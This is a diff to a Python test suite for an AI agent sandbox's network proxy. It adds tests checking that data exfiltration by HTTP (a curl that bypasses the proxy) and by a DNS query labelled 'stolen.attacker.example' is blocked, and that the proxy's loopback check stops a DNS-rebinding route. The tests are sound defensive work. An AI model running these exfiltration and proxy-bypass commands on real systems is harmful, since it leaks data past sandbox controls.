@@ -2,6 +2,7 @@
 
 import asyncio
 import dataclasses
+import socket
 import threading
 from collections.abc import Iterator, Sequence
 from dataclasses import dataclass, field
@@ -13,6 +14,7 @@ import pytest
 from agent.hosts import parse_rule
 from agent.journal import Event, HostAsked
 from agent.workspace import Finished, run
+from agent.workspace.sandbox import proxy
 from agent.workspace.sandbox.proxy import NetworkPolicy, Streams, connect, open_proxy
 from tests.support.place import Place, a_place
 
@@ -203,6 +205,45 @@ class TestRefused:
         assert done.status != 0
         assert "unreachable" in done.output.lower() or "connect" in done.output.lower()
         assert net.told == []
+
+    def test_P06_without_walls_words_leave_by_a_connection_and_by_a_name(self, net: Net) -> None:
+        """A site and a name server of this machine stand for the attacker's.
+
+        The machine's own resolver is not asked for a foreign name: whether it would carry the
+        question on is a matter of the network that it is in.
+        """
+        query = "b'\\x00\\x01' + bytes(10) + b'\\x06stolen\\x08attacker\\x07example\\x00'"
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
+            server.bind(("127.0.0.1", 0))
+            server.settimeout(0.5)
+            where = f"('127.0.0.1', {server.getsockname()[1]})"
+            by_name = (
+                'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)'
+                f'.sendto({query}, {where})"'
+            )
+            by_connection = f"curl -sS --noproxy '*' http://127.0.0.1:{net.port}/stolen"
+            assert "site" in net.place.bare(by_connection).output
+            net.place.bare(by_name)
+            assert b"stolen" in server.recv(99)
+            assert "site" not in net.run(by_connection, "api.example.com").output
+            net.run(by_name, "api.example.com")
+            with pytest.raises(TimeoutError):
+                server.recv(99)
+
+    def test_S48_without_its_checks_the_proxy_leads_inwards(
+        self, net: Net, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """Whoever owns a name decides where it leads: here to this machine's own loopback."""
+        net.names["api.example.com"] = ["127.0.0.1"]
+        command = tunnel("api.example.com:443")
+        assert "site" not in net.run(command, "api.example.com").output
+
+        def unguarded(*_: object, **__: object) -> str:
+            return ""
+
+        monkeypatch.setattr(proxy, "address_problem", unguarded)
+        assert "site" in net.run(command, "api.example.com").output
+        assert net.dialled == [("127.0.0.1", 443)]
 
     def test_a_private_mirror_must_be_named_as_such(self, net: Net) -> None:
         """Then its address may be private, but never this machine's."""
